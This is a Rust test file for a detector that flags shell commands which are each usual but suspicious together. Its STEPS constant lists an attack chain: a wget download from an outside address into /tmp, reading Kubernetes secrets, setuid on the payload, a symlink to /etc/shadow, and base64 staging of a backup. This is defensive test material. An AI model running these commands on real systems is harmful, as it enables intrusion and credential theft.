//! Commands that are unusual together, although each of them is usual enough.

use super::{unusual::*, *};
use crate::{
    baseline::{Scoring, merge_scored},
    behaviour::{Attributes, MAX_COMMANDS},
    score::Strangeness,
};

/// Everyday commands, one of so many.
fn everyday(one_of: usize) -> impl Iterator<Item = &'static str> {
    let lines = include_str!("../../../corpus/benign.txt").lines();
    lines.filter(|script| !script.starts_with('#')).step_by(one_of)
}

/// As many of them as are kept of a program, as good as drawn by lot.
fn drawn() -> Attributes {
    let mut lines: Vec<String> = everyday(2).map(line).collect();
    let seed = u64::from_be_bytes(*b"commands");
    lines.sort_by_cached_key(|line| twox_hash::XxHash3_64::oneshot_with_seed(seed, line.as_bytes()));
    Attributes {
        commands: lines.into_iter().take(MAX_COMMANDS).collect(),
        ..Attributes::default()
    }
}

/// A workload that learned these, and judges.
struct Judging {
    world: World,
    scoring: Scoring,
    seq: u64,
}

impl Judging {
    fn new() -> Self {
        let mut world = World::mature();
        world.sees(&bash(), drawn(), at(2));
        // Ten quiet days, and a policy under which one command in sixty is raised.
        world.policy.tolerance.alerts_per_thousand_weeks = 11;
        let held = world.baseline.feed_mut(&container(), Feed::Process, at(0));
        held.sampled = CommandSample::NONE;
        for day in 0..11 {
            held.hours.observe(at(day * 86_400).hour());
            held.sampled.see(bash().id(), "always", at(day * 86_400).day());
        }
        Self {
            world,
            scoring: Scoring::default(),
            seq: 1_000,
        }
    }

    /// A command of the shell that a program of the container started.
    fn runs(&mut self, pod_name: &str, by: &str, script: &str, seconds: i64) {
        self.seq += 1;
        let time = at(10 * 86_400 + seconds);
        let report = BehaviourReport {
            attributes: with(script),
            lineage: ["/usr/bin/python3", by, "/usr/bin/bash"].map(str::to_owned).to_vec(),
            ..seen(&bash(), time)
        };
        let batch = batch(self.seq, pod(pod_name, "h1", digest('1')), vec![report]);
        let world = &mut self.world;
        merge_scored(&mut world.baseline, &batch, &world.policy, &mut self.scoring, time);
    }

    fn runs_all<'a>(&mut self, by: &str, scripts: impl IntoIterator<Item = &'a str>, seconds_between: i64) {
        for (number, script) in (0_i64..).zip(scripts) {
            self.runs("p1", by, script, number * seconds_between);
        }
    }

    fn raised(&self) -> Vec<Strangeness> {
        let entries = self.world.baseline.entries();
        entries
            .filter_map(|(_, _, entry)| entry.strangeness.as_deref().cloned())
            .collect()
    }

    /// How many of them were unusual together, at most.
    fn together(&self) -> u32 {
        self.raised().iter().map(|why| why.together).max().unwrap_or(0)
    }
}

/// An attack in steps, each of which might be anybody's work.
const STEPS: [&str; 6] = [
    "wget -q http://203.0.113.9/a -O /tmp/a",
    "kubectl get secrets",
    "chmod u+s /tmp/a",
    "ln -s /etc/shadow /srv/b",
    "base64 /home/backup.tar",
    "cp /bin/sh /tmp/a",
];

#[test]
fn steps_that_are_each_usual_enough_are_unusual_together_within_an_hour() {
    for (seconds_between, together) in [(10, true), (3_601, false)] {
        let mut judging = Judging::new();
        judging.runs_all("/usr/bin/sh", STEPS, seconds_between);
        assert_eq!(judging.together() >= 2, together, "{:?}", judging.raised());
    }
}

#[test]
fn steps_in_any_order_are_unusual_together_once_enough_of_them_came() {
    for start in 0..STEPS.len() {
        let mut judging = Judging::new();
        let rotated = STEPS.iter().cycle().skip(start).take(STEPS.len());
        judging.runs_all("/usr/bin/sh", rotated.copied(), 10);
        assert!(judging.together() >= 2, "{start}");
        let mut backwards = Judging::new();
        let rotated = STEPS.iter().rev().cycle().skip(start).take(STEPS.len());
        backwards.runs_all("/usr/bin/sh", rotated.copied(), 10);
        assert!(backwards.together() >= 2, "{start} backwards");
    }
}

#[test]
fn a_flood_of_other_pods_and_lineages_pushes_no_step_out() {
    let mut judging = Judging::new();
    let fillers: Vec<&str> = everyday(2).collect();
    for (number, step) in (0_i64..).zip(STEPS) {
        judging.runs("p1", "/usr/bin/sh", step, number * 60);
        for (filler, script) in (0..30_usize).zip(fillers.iter().cycle()) {
            // New lines, each like a learned one.
            let script = format!("{script} {filler}");
            judging.runs(["p2", "p3"][filler % 2], "/usr/bin/sh", &script, number * 60 + 1);
            judging.runs("p1", &format!("/usr/bin/tool-{}", filler % 3), &script, number * 60 + 1);
        }
    }
    let by_steps = judging.raised();
    assert!(by_steps.iter().any(|why| why.together >= 2), "{by_steps:?}");
}

#[test]
fn what_is_learned_meanwhile_forgets_none_of_the_last_hour() {
    let mut judging = Judging::new();
    for (number, step) in (0_i64..).zip(STEPS) {
        judging.runs("p1", "/usr/bin/sh", step, number * 10);
        // As a candidate is learned: the scorer is made anew.
        let held = judging.world.baseline.feed_mut(&container(), Feed::Process, at(0));
        let entry = held.entries.get_mut(&bash().id()).expect("learned");
        entry.attributes.commands.insert(line(&format!("ls -l /data/{number}")));
    }
    assert!(judging.together() >= 2, "{:?}", judging.raised());
}

#[test]
fn new_everyday_commands_are_not_unusual_together() {
    let mut judging = Judging::new();
    judging.runs_all("/usr/bin/sh", everyday(20).skip(1), 10);
    assert_eq!(judging.together(), 0);
}
